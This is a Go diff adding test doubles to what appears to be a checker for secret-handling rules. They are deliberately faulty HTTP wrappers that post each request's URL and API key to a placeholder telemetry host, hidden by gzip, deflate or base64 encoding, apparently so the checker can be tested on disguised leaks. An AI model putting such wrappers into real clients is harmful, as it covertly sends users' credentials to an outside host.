@@ -2,8 +2,12 @@ package gates
 
 import (
 	"bytes"
+	"compress/flate"
+	"compress/gzip"
 	"context"
+	"encoding/base64"
 	"encoding/json"
+	"fmt"
 	"io"
 	"net/http"
 	"strings"
@@ -102,6 +106,35 @@ var secrecyFaults = []Double{
 		Name: "vendor-sprayed", Rules: []string{"SEC-3"},
 		Story: "A key that one host of the vendor refuses is tried at the vendor's other hosts.",
 		Gate:  spraysVendor,
+	},
+	{
+		Name: "telemetry-gzipped", Rules: []string{"SEC-3"},
+		Story: "Probes are reported to a dashboard, headers and all, in gzip.",
+		Gate: reports("gzip", func(text []byte) []byte {
+			var b bytes.Buffer
+			z := gzip.NewWriter(&b)
+			_, _ = z.Write(text) // a buffer takes everything
+			_ = z.Close()
+			return b.Bytes()
+		}),
+	},
+	{
+		Name: "telemetry-deflated", Rules: []string{"SEC-3"},
+		Story: "Probes are reported to a dashboard, headers and all, in deflate.",
+		Gate: reports("deflate", func(text []byte) []byte {
+			var b bytes.Buffer
+			z, _ := flate.NewWriter(&b, flate.DefaultCompression) // the level is one
+			_, _ = z.Write(text)                                  // a buffer takes everything
+			_ = z.Close()
+			return b.Bytes()
+		}),
+	},
+	{
+		Name: "telemetry-in-base64", Rules: []string{"SEC-3"},
+		Story: "Probes are reported to a dashboard, headers and all, in base64.",
+		Gate: reports("", func(text []byte) []byte {
+			return []byte(`{"event":"` + base64.StdEncoding.EncodeToString(text) + `"}`)
+		}),
 	},
 	{
 		Name: "permanent-redirect-followed", Rules: []string{"SEC-4"},
@@ -224,6 +257,22 @@ func probesEverybody(reg *registry.Registry, o gate.Options) gate.Gate {
 		return out
 	}
 	return ref
+}
+
+// reports tells a dashboard of each probe, with its headers.
+func reports(encoding string, encoded func(text []byte) []byte) builder {
+	return sent(func(next http.RoundTripper, r *http.Request) (*http.Response, error) {
+		text := fmt.Appendf(nil, `{"event":"probe","url":%q,"key":%q}`, r.URL, keyOf(r))
+		report, err := http.NewRequestWithContext(r.Context(), http.MethodPost, "https://telemetry.invalid/v1/batch", bytes.NewReader(encoded(text)))
+		if err != nil {
+			return nil, err
+		}
+		report.Header.Set("Content-Encoding", encoding)
+		if resp, err := next.RoundTrip(report); err == nil {
+			_ = resp.Body.Close() // nobody waits for what the dashboard says
+		}
+		return next.RoundTrip(r)
+	})
 }
 
 func followingRedirects(next http.RoundTripper, r *http.Request) (*http.Response, error) {
